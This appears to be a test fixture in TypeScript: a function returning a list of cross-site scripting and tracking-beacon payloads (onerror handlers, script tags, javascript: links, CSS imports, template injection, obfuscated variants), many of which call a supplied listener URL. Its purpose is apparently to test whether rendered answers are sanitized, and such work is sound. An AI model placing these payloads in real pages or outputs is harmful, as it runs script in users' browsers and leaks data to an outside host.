/** Answers that try to run a script, or to tell `listener` that they were read. */
export function corpus(listener: string): string[] {
  const beacon = listener.replace(/^http:/, '')
  return [
    `<img src=x onerror="fetch('${listener}/img')">`,
    `<img src="${listener}/plain.png">`,
    `![pixel](${listener}/markdown.png)`,
    `![pixel](https:${beacon}/markdown-https.png)`,
    `![pixel][ref]\n\n[ref]: ${listener}/reference.png`,
    `<script>fetch('${listener}/script')</script>`,
    `<script src="${listener}/script.js"></script>`,
    `</div></article><script>alert(1)</script>`,
    `"><svg onload=alert(1)>`,
    `<svg><image href="${listener}/svg.png" /></svg>`,
    `<iframe src="${listener}/frame"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
    `<style>@import "${listener}/style.css"; body { background: url(${listener}/bg.png) }</style>`,
    `<link rel="stylesheet" href="${listener}/link.css"><link rel="prefetch" href="${listener}/prefetch">`,
    `<meta http-equiv="refresh" content="0;url=${listener}/refresh">`,
    `<base href="${listener}/"><form action="${listener}/form"><input autofocus onfocus=alert(1)></form>`,
    `<video src="${listener}/v.mp4" poster="${listener}/poster.png" autoplay></video><audio src="${listener}/a.mp3" autoplay></audio>`,
    `<object data="${listener}/object"></object><embed src="${listener}/embed">`,
    `<details open ontoggle=alert(1)>x</details>`,
    `[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](java\tscript:alert(1))`,
    `[click](data:text/html,<script>alert(1)</script>) [click](vbscript:msgbox(1)) [click](//${beacon})`,
    `[click](https://example.com/" onmouseover="alert(1)) [fine](https://example.com/ok)`,
    `<javascript:alert(1)> <${listener}/auto> javascript:alert(1)`,
    '```"><img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```',
    `| <img src=x onerror=alert(1)> | b |\n|---|---|\n| ![x](${listener}/cell.png) | <script>alert(1)</script> |`,
    `- <img src=x onerror=alert(1)>\n  > <b onclick=alert(1)>bold</b>`,
    '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
    '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
    '\u202Etpircsavaj\u202C \u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  ]
}
